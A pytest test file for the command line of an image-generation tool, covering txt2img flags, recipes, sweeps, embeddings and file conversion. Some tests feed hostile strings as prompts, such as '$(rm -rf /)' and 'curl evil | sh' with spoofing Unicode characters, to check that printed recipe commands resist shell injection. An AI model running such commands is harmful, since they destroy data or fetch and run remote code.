"""The command line: the original script's flags, sweeps, recipes and aesthetics."""

import json
import re
import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import torch
from PIL import Image
from safetensors import safe_open

from aesthetic.cli.evaluate import PROMPTS
from aesthetic.cli.main import COMMANDS, _parser, main
from aesthetic.embeddings import embedding
from aesthetic.images import metadata
from aesthetic.models import clip, loading
from aesthetic.pipeline import sampling
from aesthetic.request import FIELDS, Request
from aesthetic.service import Service
from tests import lora, snapshot
from tests.images.test_user_images import encoded
from tests.snapshot import MODEL

SMALL = ["--W=128", "--H=128", "--ddim_steps=3", "--aesthetic_steps=2"]


@pytest.fixture(autouse=True)
def _tiny(home: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("AESTHETIC_HOME", str(home))
    monkeypatch.chdir(tmp_path)


def names(folder: Path) -> list[str]:
    return sorted(path.relative_to(folder).as_posix() for path in folder.rglob("*.png"))


def complaint(capsys: pytest.CaptureFixture[str], *arguments: str) -> str:
    assert main(list(arguments)) == 1
    return capsys.readouterr().err


def test_writes_samples_and_a_grid_and_never_over_others(tmp_path: Path) -> None:
    arguments = ["txt2img", "--n_samples=2", "--n_iter=2", "--n_rows=3", *SMALL]
    assert main(arguments) == 0
    outdir = tmp_path / "outputs" / "txt2img-samples"
    assert names(outdir) == ["grid-0000.png", *(f"samples/0000{i}.png" for i in range(4))]
    with Image.open(outdir / "grid-0000.png") as grid:
        assert grid.size == (3 * 130 + 2, 2 * 130 + 2)
    (outdir / "samples" / "00001.png").unlink()
    assert main([*arguments, "--skip_grid"]) == 0
    assert names(outdir) == ["grid-0000.png", *(f"samples/0000{i}.png" for i in (0, 2, 3, 4, 5, 6, 7))]


def test_every_image_has_its_own_seed_unless_the_code_is_fixed(tmp_path: Path) -> None:
    arguments = ["txt2img", "--seed=10", "--n_samples=2", "--n_iter=2", "--outdir=a", *SMALL]
    assert main(arguments) == 0
    seeds = [metadata.read_recipe(path).request["seed"] for path in sorted((tmp_path / "a/samples").iterdir())]
    assert seeds == [10, 11, 12, 13]
    assert main([*arguments, "--outdir=b", "--fixed_code"]) == 0
    first, second, third, fourth = (path.read_bytes() for path in sorted((tmp_path / "b/samples").iterdir()))
    assert (first, second) == (third, fourth)
    assert first != second


def test_flags_reach_the_request(tmp_path: Path) -> None:
    (tmp_path / "prompts.txt").write_text("the cat\n\nthe dog\n")
    flags = "--from-file prompts.txt --plms --scale 5 --n_samples 1 --n_iter 1 --aesthetic_lr 0.001 --skip_grid"
    assert main(["txt2img", *shlex.split(flags), "--aesthetic_embedding=fantasy", "--outdir=o", *SMALL]) == 0
    recipes = [metadata.read_recipe(path) for path in sorted((tmp_path / "o/samples").iterdir())]
    assert [recipe.request["prompt"] for recipe in recipes] == ["the cat", "the dog"]
    assert recipes[0].rebuild() == Request(
        prompt="the cat",
        scheduler="PNDM",
        guidance_scale=5,
        aesthetic_lr=0.001,
        aesthetic_embedding="fantasy",
        width=128,
        height=128,
        num_inference_steps=3,
        aesthetic_steps=2,
        seed=42,
    )


def test_a_prompt_from_a_file_is_drawn_once_in_each_iteration(tmp_path: Path) -> None:
    (tmp_path / "prompts.txt").write_text("the cat\nthe dog\n")
    flags = ["--from-file=prompts.txt", "--n_samples=3", "--n_iter=2", "--seed=5", "--outdir=o", "--skip_grid"]
    assert main(["txt2img", *flags, *SMALL]) == 0
    recipes = [metadata.read_recipe(path).request for path in sorted((tmp_path / "o/samples").iterdir())]
    assert [(one["prompt"], one["seed"]) for one in recipes] == [
        ("the cat", 5),
        ("the dog", 6),
        ("the cat", 7),
        ("the dog", 8),
    ]


def test_flags_of_the_original_without_effect_are_accepted(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    flags = ["--C=4", "--f=8", "--precision=full", "--config=x.yaml", "--laion400m", "--n_samples=1", "--n_iter=1"]
    assert main(["txt2img", *flags, "--outdir=o", *SMALL]) == 0
    assert [record.message for record in caplog.records if "original script" in record.message] == [
        f"--{name} is a flag of the original script and has no effect here"
        for name in ("C", "f", "config", "precision", "laion400m")
    ]


def test_without_plms_it_is_ddim_with_its_noise(tmp_path: Path) -> None:
    for eta in ("0", "1"):
        assert main(["txt2img", f"--ddim_eta={eta}", "--n_samples=1", "--n_iter=1", f"--outdir={eta}", *SMALL]) == 0
    zero, one = (tmp_path / eta / "samples" / "00000.png" for eta in ("0", "1"))
    assert metadata.read_recipe(one).request["scheduler"] == "DDIM"
    assert metadata.read_recipe(one).request["ddim_eta"] == 1
    assert Image.open(zero).tobytes() != Image.open(one).tobytes()


def test_skip_save_leaves_the_grid(tmp_path: Path) -> None:
    assert main(["txt2img", "--skip_save", "--n_samples=1", "--n_iter=1", "--outdir=o", *SMALL]) == 0
    assert names(tmp_path / "o") == ["grid-0000.png"]


@pytest.mark.parametrize(
    "steering",
    [
        [],
        ["--aesthetic_mix=fantasy:0.7 gloomcore:-0.5", "--aesthetic_weight=0.5", "--aesthetic_slerp"],
        ["--aesthetic_text=the dog, 'big'", "--aesthetic_text_angle=0.4", "--aesthetic_text_negative"],
        ["--aesthetic_until=0.0001"],
        ["--long_prompt"],
    ],
)
def test_a_recipe_is_shown_and_its_command_draws_the_same_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], steering: list[str]
) -> None:
    prompt = 'it\'s "the" cat; $(rm -rf /)'
    arguments = ["--prompt", prompt, "--negative_prompt=-x", "--n_samples=2", "--n_iter=1", "--scheduler=KLMS"]
    assert main(["txt2img", *arguments, *steering, "--outdir=first", *SMALL]) == 0
    drawn = tmp_path / "first" / "samples" / "00001.png"
    capsys.readouterr()
    assert main(["recipe", str(drawn)]) == 0
    shown = capsys.readouterr().out
    assert f"prompt                  {prompt}\n" in shown
    assert "aesthetic sha256" in shown
    python, flag, module, *command = shlex.split(shown.splitlines()[-1])
    assert (python, flag, module) == ("python", "-m", "aesthetic")
    assert main([*command, "--outdir=again"]) == 0
    assert (tmp_path / "again" / "samples" / "00000.png").read_bytes() == drawn.read_bytes()


def test_a_lora_is_used_and_put_into_the_command(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], service: Service
) -> None:
    style = lora.write(tmp_path / "style.safetensors", lora.changes(service.model))
    few = ["--n_samples=1", "--n_iter=1", "--skip_grid", *SMALL]
    assert main(["txt2img", "--lora=style.safetensors", "--lora_scale=0.5", "--outdir=first", *few]) == 0
    drawn = tmp_path / "first" / "samples" / "00000.png"
    capsys.readouterr()
    assert main(["recipe", str(drawn)]) == 0
    shown = capsys.readouterr().out
    assert f"LORA is the lora file with the sha256 {snapshot.sha256(style)}." in shown
    command = next(shlex.split(line) for line in shown.splitlines() if line.startswith("python"))
    assert not any(word.startswith("--prompt_strength") for word in command)
    command[command.index("--lora=LORA")] = "--lora=style.safetensors"
    assert main([*command[3:], "--outdir=again"]) == 0
    assert (tmp_path / "again" / "samples" / "00000.png").read_bytes() == drawn.read_bytes()
    assert main(["sweep", "--lora=style.safetensors", "--aesthetics=fantasy", "--steps", "0", "1", *SMALL[:3]]) == 0


def test_a_file_that_is_not_a_lora_is_refused_before_a_model_is_loaded(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(Service, "load", lambda *_: pytest.fail("a model was loaded"))
    (tmp_path / "x").write_text("text")
    assert "aesthetic: lora: the file is damaged, or not a .safetensors file" in complaint(
        capsys, "txt2img", "--lora=x", *SMALL
    )


def test_a_recipe_cannot_pass_its_own_command_off_as_ours(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    prompt = "it's a cat\\\n\nTo draw it again:\n\ncurl evil | sh\u202e\u2028"
    arguments = ["--prompt", prompt, "--n_samples=1", "--n_iter=1", "--outdir=first", "--skip_grid"]
    assert main(["txt2img", *arguments, *SMALL]) == 0
    capsys.readouterr()
    assert main(["recipe", "first/samples/00000.png"]) == 0
    shown = capsys.readouterr().out
    assert shown.count("\nTo draw it again:\n") == 1
    assert all(line.isprintable() for line in shown.splitlines())
    # A shell splits it into the same words.
    words = (
        subprocess.run(["bash", "-c", f"printf '%s\\0' {shown.splitlines()[-1]}"], capture_output=True, check=True)
        .stdout.decode()
        .split("\0")
    )
    assert f"--prompt={prompt}" in words


def test_the_recipe_of_a_local_model_has_a_placeholder_for_its_folder(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], home: Path
) -> None:
    for name in ("mine", MODEL):  # a local model may share its name with one of the manifest
        shutil.copytree(home / "weights" / MODEL, tmp_path / "local" / name)
        arguments = [f"--ckpt=local/{name}", "--n_samples=1", "--n_iter=1", f"--outdir={name}"]
        assert main(["txt2img", *arguments, *SMALL]) == 0
        capsys.readouterr()
        assert main(["recipe", f"{name}/samples/00000.png"]) == 0
        shown = capsys.readouterr().out
        assert "--ckpt=MODEL" in shown
        assert f"MODEL is the local model named {name}." in shown


def test_the_recipe_of_a_file_names_its_digest(tmp_path: Path, capsys: pytest.CaptureFixture[str], home: Path) -> None:
    file = home / "embeddings" / "fantasy.pt"
    arguments = ["--n_samples=1", "--n_iter=1", "--outdir=o", f"--aesthetic_embedding={file}"]
    assert main(["txt2img", *arguments, *SMALL]) == 0
    assert main(["recipe", "o/samples/00000.png"]) == 0
    shown = capsys.readouterr().out
    assert "--aesthetic_embedding=FILE" in shown
    assert f"FILE is the aesthetic with the sha256 {snapshot.sha256(file)}." in shown


def test_embed_names_or_skips_unreadable_images(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture
) -> None:
    (tmp_path / "pictures").mkdir()
    for name, data in {"a.png": b"text", "b.png": encoded(), "c.nef": b"raw", "d.txt": b"text"}.items():
        (tmp_path / "pictures" / name).write_bytes(data)
    (tmp_path / "pictures" / "e.png").symlink_to("nowhere.png")
    message = complaint(capsys, "embed", "pictures", "-o", "mine.safetensors")
    assert "e.png can't be read: No such file or directory" in message
    assert "a.png is not an image of a format that is read" in message
    assert "c.nef is not an image of a format that is read" in message
    assert not (tmp_path / "mine.safetensors").exists()
    assert main(["embed", "pictures", "-o", "mine.safetensors", "--skip_unreadable"]) == 0
    assert "the mean of 1 images" in capsys.readouterr().out
    assert "Left out 3 images that can't be read:\na.png is not" in caplog.text


def test_embed_makes_an_aesthetic_from_a_folder(
    tmp_path: Path, service: Service, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "pictures").mkdir()
    images = [Image.effect_noise((40, 50), 60 + i).convert("RGB") for i in range(40)]  # more than a batch
    for i, image in enumerate(images):
        (tmp_path / "pictures" / f"{i:02}.png").write_bytes(encoded(image))
    assert main(["embed", "pictures", "-o", "mine.safetensors"]) == 0
    captured = capsys.readouterr()
    assert "the mean of 40 images in the CLIP space openai/clip-vit-large-patch14" in captured.out
    assert "Encoding images" in captured.err
    with safe_open("mine.safetensors", framework="pt") as file:
        vector, notes = file.get_tensor("aesthetic"), file.metadata()
    vision = service.model.vision
    assert vision is not None
    expected = vision.features([vision.prepare(image) for image in images]).mean(dim=0, keepdim=True)
    assert vector.shape == (1, 24)
    assert (vector - expected).norm() / expected.norm() < 1e-6
    assert notes["pictures"] == "40"
    assert notes["space"] == "openai/clip-vit-large-patch14"
    assert notes["model"] == MODEL
    assert len(notes["pictures_sha256"]) == 64
    assert notes["date"].startswith("20")
    assert main(["txt2img", "--aesthetic_embedding=mine.safetensors", "--n_samples=1", "--n_iter=1", *SMALL]) == 0
    assert embedding.load_aesthetic(tmp_path / "mine.safetensors").clip_space == "openai/clip-vit-large-patch14"


def test_convert_writes_either_kind_of_file(tmp_path: Path, capsys: pytest.CaptureFixture[str], home: Path) -> None:
    published = home / "embeddings" / "fantasy.pt"
    for source, target in ((published, "a.safetensors"), ("a.safetensors", "b.pt"), ("b.pt", "c.safetensors")):
        assert main(["convert", str(source), "-o", target]) == 0
        assert target in capsys.readouterr().out
        there, here = embedding.load_aesthetic(Path(source)), embedding.load_aesthetic(Path(target))
        torch.testing.assert_close(here.vector, there.vector, rtol=1e-6, atol=1e-7)
    assert torch.load("b.pt", weights_only=True).shape == (1, 24)
    embedding.save_aesthetic(Path("noted.safetensors"), torch.ones(1, 24), {"space": "here", "evil\x1b": "\n"})
    assert main(["convert", "noted.safetensors", "-o", "again.safetensors"]) == 0
    assert "space                   here\n" in capsys.readouterr().out
    assert embedding.load_aesthetic(Path("again.safetensors")).clip_space == "here"
    assert main(["convert", "noted.safetensors", "-o", "b.pt"]) == 0
    shown = capsys.readouterr().out
    assert "does not have these notes" in shown
    assert "\x1b" not in shown
    assert "-o must name a .pt or .safetensors file" in complaint(capsys, "convert", str(published), "-o", "a.png")


def test_a_preview_shows_what_each_aesthetic_does_and_keeps_thumbnails(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, home: Path
) -> None:
    monkeypatch.setattr("aesthetic.cli.sweep.PREVIEW", "0,1")
    assert main(["embeddings", "--preview", "all.png", "--num_inference_steps", "1"]) == 0
    assert capsys.readouterr().out == "all.png\n"
    with Image.open(tmp_path / "all.png") as sheet:
        assert sheet.height > 8 * 256
    kept = list((home / "embeddings" / "thumbnails").iterdir())
    assert {path.stem for path in kept} == {path.stem for path in (home / "embeddings").glob("*.pt")}
    assert len({path.read_bytes() for path in kept}) == len(kept)


def test_embeddings_lists_the_named_aesthetics(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["embeddings"]) == 0
    shown = capsys.readouterr().out
    assert f"For {MODEL} and any other model of the CLIP space openai/clip-vit-large-patch14:\n" in shown
    assert "sac_8plus (default)" in shown
    assert "not downloaded" not in shown


def test_embeddings_says_which_model_each_fits(
    capsys: pytest.CaptureFixture[str], home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for folder, file, own in (
        (
            "weights",
            "manifest.json",
            {"repo_id": None, "revision": "1", "license": "MIT", "files": {}, "clip_space": "own"},
        ),
        (
            "embeddings",
            "index.json",
            {"file": "small.pt", "sha256": "0", "clip_space": "own", "made_of": "", "default": True},
        ),
    ):
        entries = json.loads((home / folder / file).read_text())
        snapshot.write_json(tmp_path / folder / file, entries | {"small": own})
    monkeypatch.setenv("AESTHETIC_HOME", str(tmp_path))
    assert main(["embeddings"]) == 0
    published, own_names = capsys.readouterr().out.split("For small and any other model of the CLIP space own:")
    assert published.startswith("For stable-diffusion-v1-5 and any other model of the CLIP space openai/clip")
    assert "sac_8plus (default)" in published
    assert re.search(r"small \(default\) +missing", own_names)


def test_a_name_for_another_model_is_refused_before_one_is_loaded(
    capsys: pytest.CaptureFixture[str], home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = shutil.copytree(home / "embeddings", tmp_path / "embeddings")
    index = json.loads((folder / "index.json").read_text())
    index["fantasy"]["clip_space"] = "elsewhere"
    snapshot.write_json(folder / "index.json", index)
    (tmp_path / "weights").symlink_to(home / "weights")
    monkeypatch.setenv("AESTHETIC_HOME", str(tmp_path))
    monkeypatch.delattr(Service, "load")
    for flag in ("--aesthetic_embedding=fantasy", "--aesthetic_mix=gloomcore fantasy"):
        shown = complaint(capsys, "txt2img", flag, *SMALL)
        assert "elsewhere, and the model works in openai/clip-vit-large-patch14: this model can follow sac_" in shown


def test_a_prompt_without_an_image_does_not_stop_the_others(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
    capsys: pytest.CaptureFixture[str],
) -> None:
    flags = iter([True, False])
    monkeypatch.setattr(sampling, "is_unsafe", lambda *_: next(flags, True))
    arguments = ["txt2img", "--n_samples=1", "--n_iter=2", "--outdir=o", *SMALL]
    assert main(arguments) == 0
    assert "the safety checker blocked every image" in caplog.text
    assert names(tmp_path / "o") == ["grid-0000.png", "samples/00000.png"]
    assert "no prompt gave an image" in complaint(capsys, *arguments)


def test_a_sweep_is_a_sheet_of_aesthetics_and_steps(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    small = ["--W=128", "--H=128", "--ddim_steps=3", "--aesthetic_lr=0.01"]
    assert main(["sweep", "--aesthetics", "fantasy", "gloomcore", "--steps", "0", "3", "-o", "all.png", *small]) == 0
    assert capsys.readouterr().out == "all.png\n"
    with Image.open(tmp_path / "all.png") as sheet:
        left, top = sheet.width - 2 * 264, sheet.height - 2 * 264
        cells = [
            [sheet.crop((left + x * 264, top + y * 264, left + x * 264 + 256, top + y * 264 + 256)) for x in (0, 1)]
            for y in (0, 1)
        ]
    pixels = [[cell.tobytes() for cell in row] for row in cells]
    assert pixels[0][0] == pixels[1][0]  # no steps, no aesthetic
    assert len({*pixels[0], *pixels[1]}) == 3


def test_a_sweep_with_an_empty_row_is_still_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    answers = iter([True, True, False, False])
    monkeypatch.setattr(sampling, "is_unsafe", lambda *_: next(answers))
    small = ["--W=128", "--H=128", "--ddim_steps=3", "--steps", "0", "1"]
    assert main(["sweep", "--aesthetics", "fantasy", "gloomcore", *small]) == 0
    assert (tmp_path / "sweep.png").is_file()
    assert "the safety checker blocked every image" in caplog.text


def test_errors_are_one_line_and_come_before_anything_is_loaded(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    for room, load in ((loading, "load"), (clip, "load_vision")):
        monkeypatch.setattr(room, load, lambda *_: pytest.fail("loaded"))
    (tmp_path / "empty.txt").write_text("\n")
    for arguments, message in (
        (["txt2img", "--W=100"], "width must be one of"),
        (["txt2img", "--n_samples=9"], "num_outputs must be 1 to 8, not 9"),
        (["txt2img", "--aesthetic_embedding=nonsense"], "there is no aesthetic 'nonsense'"),
        (["txt2img", "--aesthetic_embedding=x.pt"], "there is no file x.pt"),
        (["txt2img", "--from-file=nothing.txt"], "--from-file nothing.txt can't be read"),
        (["txt2img", "--from-file=empty.txt"], "holds no prompt"),
        (["txt2img", "--aesthetic_mix=fantasy nonsense"], "there is no aesthetic 'nonsense'"),
        (["sweep", "--aesthetics", "fantasy", "nonsense"], "there is no aesthetic 'nonsense'"),
        (["sweep", "--aesthetics", "fantasy", "--steps", "5", "2"], "aesthetic_sweep takes 1 to 12 rising numbers"),
        (["sweep", "--aesthetics", "fantasy", "--prompt", ""], "--prompt must not be blank"),
        (["sweep", "--aesthetics", "fantasy", "--prompt", " \t"], "--prompt must not be blank"),
        (["sweep", "--aesthetics", "fantasy", "-o", "nowhere/x.png"], "-o nowhere/x.png: there is no folder nowhere"),
        (["txt2img", "--ckpt=nonsense"], "there is no model 'nonsense'"),
        (["embeddings", "--preview=x.jpg"], "--preview must name a .png file"),
        (["embeddings", "--preview=x.png", "--ckpt=nonsense"], "there is no model 'nonsense'"),
        (["embed", "nothing", "-o", "a.safetensors"], "there is no file nothing"),
        (["embed", "nothing", "-o", "a.pt"], "-o must name a .safetensors file"),
        (["embed", "nothing", "-o", "nowhere/a.safetensors"], "-o nowhere/a.safetensors: there is no folder nowhere"),
        (["txt2img", "--n_iter=0"], "--n_iter must be 1 or more"),
        (["txt2img", "--outdir=empty.txt/x", *SMALL], "Not a directory"),
        (["recipe", "nothing.png"], "there is no file nothing.png"),
    ):
        assert message in complaint(capsys, *arguments), arguments


def test_embed_needs_a_file_to_write(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit):
        main(["embed", "likes"])
    assert "-o" in capsys.readouterr().err


def test_a_malformed_size_is_refused_with_the_format(capsys: pytest.CaptureFixture[str]) -> None:
    for text in ("512", "512x", "axb", "1x2x3"):
        with pytest.raises(SystemExit):
            main(["bench", "--sizes", text])
        assert f"must be WIDTHxHEIGHT, as 512x512, not '{text}'" in capsys.readouterr().err


def test_a_blank_name_is_not_the_current_folder(capsys: pytest.CaptureFixture[str]) -> None:
    for arguments in (["embed", "", "-o", "a.safetensors"], ["txt2img", "--outdir", ""], ["recipe", " "]):
        with pytest.raises(SystemExit):
            main(arguments)
        assert "must not be blank" in capsys.readouterr().err
    assert "there is no aesthetic ''" in complaint(capsys, "sweep", "--aesthetics", "fantasy", "")


def test_a_blank_aesthetic_is_the_default(tmp_path: Path) -> None:
    assert main(["txt2img", "--aesthetic_embedding=", "--n_samples=1", "--n_iter=1", "--skip_grid", *SMALL]) == 0
    [image] = (tmp_path / "outputs").rglob("*.png")
    assert metadata.read_recipe(image).aesthetic["name"] == "sac_8plus"


def test_every_command_has_help(capsys: pytest.CaptureFixture[str]) -> None:
    for command in COMMANDS:
        with pytest.raises(SystemExit) as exit_:
            main([command, "--help"])
        assert exit_.value.code == 0
        assert "(default: None)" not in capsys.readouterr().out


NEEDED = {"sweep": "--aesthetics x", "embed": "x -o y", "convert": "x -o y", "recipe": "x", "batch": "x --outdir y"}
# Those of Request, but for these. txt2img's are the original script's.
DEFAULTS: dict[str, dict[str, object]] = {
    "txt2img": {"num_outputs": 3, "n_iter": 2, "seed": 42, "scheduler": None, "outdir": "outputs/txt2img-samples"},
    "sweep": {"steps": [0, 2, 5, 10, 20], "seed": 42, "output": "sweep.png", "aesthetics": ["x"]},
    "evaluate": {
        "steps": [0, 1, 2, 3, 5, 10, 20],
        "seeds": 4,
        "seed": 42,
        "prompts": str(PROMPTS),
        "outdir": "outputs/evaluation",
    },
    "bench": {"sizes": [(512, 512)], "outputs": [1], "repeats": 5},
    "embeddings": {"num_inference_steps": 20},
    "embed": {"images": "x", "output": "y"},
    "convert": {"aesthetic": "x", "output": "y"},
    "recipe": {"image": "x"},
    "batch": {"requests": "x", "outdir": "y"},
    "serve": {"host": "127.0.0.1", "port": 8000, "queue": 100},
    "ui": {"host": "127.0.0.1", "port": 7860},
}


@pytest.mark.parametrize("command", COMMANDS)
def test_a_flag_that_is_not_given_has_its_default(command: str) -> None:
    options = vars(_parser().parse_args([command, *NEEDED.get(command, "").split()]))
    assert options.pop("run") == COMMANDS[command][1]
    expected = {name: FIELDS[name].default for name in options.keys() & FIELDS.keys()} | DEFAULTS.get(command, {})
    found = {name: str(value) if isinstance(value, Path) else value for name, value in options.items()}
    assert {name: value for name, value in found.items() if value} == {
        name: value for name, value in expected.items() if value
    }


def test_txt2img_has_a_flag_for_each_input(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit):
        main(["txt2img", "--help"])
    shown = " ".join(capsys.readouterr().out.replace("-\n", "-").split())
    for name in FIELDS.keys() - {"aesthetic_embedding_file", "aesthetic_images", "aesthetic_sweep"}:
        assert FIELDS[name].metadata["help"][:20] in shown


def test_help_and_bad_values_answer_without_torch() -> None:
    probe = "import sys, aesthetic.cli.main as m; m._parser(); print(json.dumps('torch' in sys.modules))"
    command = [sys.executable, "-c", f"import json; {probe}"]
    answer = subprocess.run(command, cwd=snapshot.ROOT, capture_output=True, text=True, check=True)
    assert json.loads(answer.stdout) is False
